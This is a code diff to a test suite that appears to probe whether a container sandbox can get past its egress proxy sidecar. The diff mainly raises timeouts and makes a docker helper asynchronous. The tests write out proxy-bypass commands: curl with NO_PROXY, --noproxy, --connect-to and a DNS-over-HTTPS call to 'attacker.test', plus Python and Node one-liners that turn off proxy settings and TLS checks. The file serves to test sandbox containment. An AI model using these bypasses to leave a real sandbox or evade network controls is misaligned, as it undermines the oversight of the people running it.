@@ -1,6 +1,6 @@
 // ATTACKS A1–A6: leaving the box past the sidecar, by address, by protocol, by name server, by settings of the client.
 import { randomBytes } from 'node:crypto';
-import { docker } from '../../support/docker.js';
+import { dockerBeside } from '../../support/docker.js';
 import { type Attack, type Variant, variant } from './attack.js';
 import type { Place } from './place.js';
 import type { World } from './world.js';
@@ -107,7 +107,7 @@ const a3: Attack = {
   async control(world) {
     const options = ['--rm', '-i', '--entrypoint', 'python3', '--sysctl', 'net.ipv6.conf.all.disable_ipv6=0'];
     const words = [...options, '--sysctl', 'net.ipv6.conf.default.disable_ipv6=0', world.image];
-    const found = docker('run', ...words, '-c', 'print(open("/proc/net/if_inet6").read())');
+    const found = await dockerBeside('run', ...words, '-c', 'print(open("/proc/net/if_inet6").read())');
     return [variant('addresses', / eth0$/m.test(found) && 'the interface has an IPv6 address', 'none')];
   },
 };
@@ -235,7 +235,7 @@ const a6: Attack = {
     const token = randomBytes(8).toString('hex');
     const at = place.hostAddress;
     const { tlsPort, tcpPort } = world.upstreams;
-    const curl = 'curl -ksS -m 3';
+    const curl = 'curl -ksS -m 6';
     const lines = {
       'no variables': `env -i PATH=$PATH ${curl} https://${at}:${tlsPort}/${token}-1`,
       'NO_PROXY=*': `NO_PROXY='*' no_proxy='*' ${curl} https://${at}:${tlsPort}/${token}-2`,
@@ -245,8 +245,8 @@ const a6: Attack = {
       '--connect-to': `${curl} --noproxy '*' --connect-to ::${at}:${tlsPort} https://mirror.desk.test/${token}-6`,
       '--interface': `${curl} --noproxy '*' --interface eth0 https://${at}:${tlsPort}/${token}-7`,
       '--dns-servers': `${curl} --noproxy '*' https://attacker.test/${token}-8 --doh-url https://${at}:${tlsPort}/dns`,
-      python: `python3 -c "import requests; s = requests.Session(); s.trust_env = False; s.get('https://${at}:${tlsPort}/${token}-9', verify=False, timeout=3)"`,
-      node: `env -u NODE_USE_ENV_PROXY NODE_TLS_REJECT_UNAUTHORIZED=0 node -e "fetch('https://${at}:${tlsPort}/${token}-a', { signal: AbortSignal.timeout(3000) })"`,
+      python: `python3 -c "import requests; s = requests.Session(); s.trust_env = False; s.get('https://${at}:${tlsPort}/${token}-9', verify=False, timeout=6)"`,
+      node: `env -u NODE_USE_ENV_PROXY NODE_TLS_REJECT_UNAUTHORIZED=0 node -e "fetch('https://${at}:${tlsPort}/${token}-a', { signal: AbortSignal.timeout(6000) })"`,
     };
     const codes = await place.run(
       (tools, all) => Promise.all(Object.values(all).map(async (line) => (await tools.sh(line)).code)),
